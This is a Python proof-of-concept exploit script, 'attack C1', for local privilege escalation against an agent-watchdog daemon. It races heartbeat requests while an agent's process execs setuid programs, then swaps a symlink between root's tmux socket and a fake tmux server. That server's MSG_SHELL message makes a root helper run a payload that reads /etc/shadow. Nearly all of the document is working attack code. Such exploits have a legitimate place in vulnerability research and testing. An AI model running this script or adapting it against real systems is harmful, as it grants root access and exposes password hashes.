"""The attack C1, run by an unprivileged user against the host's daemon: `python3 becoming_root.py DIRECTORY SECONDS`.

Standard library only. Both faults in a chain, as in f87b3bd:

1. An agent's main process becomes a setuid program. For the moments in which its real uid is 0 a beat made the agent
   root's (each message asked again whose the process is, in any direction).
2. Before the agent was ended (its TTL was over) a helper of root's looked for its pane: it took `TMUX=` from that
   process's environment, checked the socket there by its path, and ran `tmux -S PATH`, which opened the path again. A
   link is swapped meanwhile from a socket of root's to that of a fake server, whose word MSG_SHELL makes the client
   execute any file.

Prints one JSON object: how often what was tried, and what came of it.
"""

import contextlib
import json
import os
import pty
import socket
import struct
import subprocess
import sys
import threading
import time

CONTROL = "/run/agent-watchdog/control.sock"
MSG_SHELL, PROTOCOL = 209, 8  # tmux-protocol.h of tmux 3.0 to 3.5
SETUID = (["sudo", "-k", "true"], ["sudo", "-k", "true"], ["chsh"], ["chfn"], ["su"])

SWAPPER = """
import os, sys, time
here = sys.argv[1]
while True:
    for place, seconds in (("/run/agent-watchdog/control.sock", 0.004), (f"{here}/fake", 0.008)):
        os.symlink(place, f"{here}/next")
        os.rename(f"{here}/next", f"{here}/tmux")
        time.sleep(seconds)
"""


def ask(method: str, path: str, body: object) -> tuple[int, dict[str, object]]:
    """One request."""
    content = json.dumps(body).encode()
    head = f"{method} {path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\nContent-Length: {len(content)}\r\n\r\n"
    with socket.socket(socket.AF_UNIX) as connection:
        connection.settimeout(10)
        connection.connect(CONTROL)
        connection.sendall(head.encode() + content)
        received = b""
        while piece := connection.recv(65536):
            received += piece
    first, _, text = received.partition(b"\r\n\r\n")
    return int(first.split()[1]), json.loads(text or b"{}")


class Fake:
    """The fake tmux server, and the link that leads to it every other moment."""

    def __init__(self, directory: str) -> None:
        self.directory, self.link = directory, f"{directory}/tmux"
        self.asked = 0
        payload = f"{directory}/payload"
        with open(payload, "w") as script:
            script.write(f"#!/bin/sh\numask 022\n{{ id; head -c 20 /etc/shadow; }} >{directory}/got 2>&1\n")
        os.chmod(payload, 0o755)
        word = payload.encode() + b"\0"
        self._word = struct.pack("=IHHII", MSG_SHELL, 16 + len(word), 0, PROTOCOL, os.getpid()) + word
        self._listener = socket.socket(socket.AF_UNIX)
        self._listener.bind(f"{directory}/fake")
        os.chmod(f"{directory}/fake", 0o666)
        self._listener.listen(50)
        threading.Thread(target=self._serve, daemon=True).start()
        self.swapper = subprocess.Popen([sys.executable, "-c", SWAPPER, directory])

    def _serve(self) -> None:
        while True:
            connection, _ = self._listener.accept()
            self.asked += 1
            try:
                connection.sendall(self._word)
                connection.settimeout(1)
                while connection.recv(65536):
                    pass
            except OSError:
                pass
            connection.close()


def real_uid(pid: int) -> str:
    try:
        with open(f"/proc/{pid}/status") as status:
            return next(line.split()[1] for line in status if line.startswith("Uid:"))
    except (OSError, StopIteration):
        return ""


def one_try(number: int, fake: Fake, told: dict[str, int]) -> None:
    """One agent, one setuid program; beats go out while its process becomes it."""
    argv = SETUID[number % len(SETUID)]
    status, made = ask("POST", "/v1/agents", {"name": f"climber-{number}", "ttl_seconds": 3})
    if status != 201:
        told["refused"] += 1
        time.sleep(0.2)
        return
    go, gone = os.pipe()
    pid, terminal = pty.fork()
    if pid == 0:
        os.close(gone)
        os.read(go, 1)
        os.execvpe(argv[0], argv, {"PATH": "/usr/bin:/bin", "TMUX": f"{fake.link},1,0", "TERM": "xterm"})
    os.close(go)
    over = threading.Event()

    def beat() -> None:
        while not over.is_set():
            answer, _ = ask("POST", f"/v1/agents/{made['agent_id']}/beat", {"state": "working"})
            told["beats"] += 1
            if answer == 403:  # it is root's now: another beat would take it back
                told["climbed"] += 1
                over.set()

    def watch() -> None:
        while not over.is_set() and real_uid(pid) not in ("", "0"):
            pass
        told["windows"] += real_uid(pid) == "0" or not over.is_set()

    try:
        if ask("PATCH", f"/v1/agents/{made['agent_id']}", {"pid": pid})[0] != 200:
            told["refused"] += 1
            return
        beaters = [threading.Thread(target=run) for run in (beat, beat, beat, watch)]
        for beater in beaters:
            beater.start()
        os.write(gone, b"x")
        over.wait(0.5)
        climbed = over.is_set()
        over.set()
        for beater in beaters:
            beater.join()
        end = time.monotonic() + 8
        while climbed and time.monotonic() < end and not os.waitid(os.P_PID, pid, os.WEXITED | os.WNOHANG | os.WNOWAIT):
            time.sleep(0.1)  # until the daemon has ended it
    finally:
        over.set()
        os.close(gone)
        os.close(terminal)  # hangs it up
        with contextlib.suppress(PermissionError):
            os.kill(pid, 9)
        os.waitpid(pid, 0)


def main(directory: str, seconds: float) -> None:
    fake, told = Fake(directory), dict.fromkeys(("tries", "refused", "beats", "windows", "climbed"), 0)
    until = time.monotonic() + seconds
    try:
        while time.monotonic() < until and not os.path.exists(f"{directory}/got"):
            try:
                one_try(told["tries"], fake, told)
            except OSError:  # the daemon is busy
                time.sleep(0.2)
            told["tries"] += 1
    finally:
        fake.swapper.kill()
        fake.swapper.wait()
    got = ""
    if os.path.exists(f"{directory}/got"):
        time.sleep(0.5)
        with open(f"{directory}/got") as file:
            got = file.read()
    print(json.dumps({**told, "asked": fake.asked, "got": got}))


if __name__ == "__main__":
    main(sys.argv[1], float(sys.argv[2]))
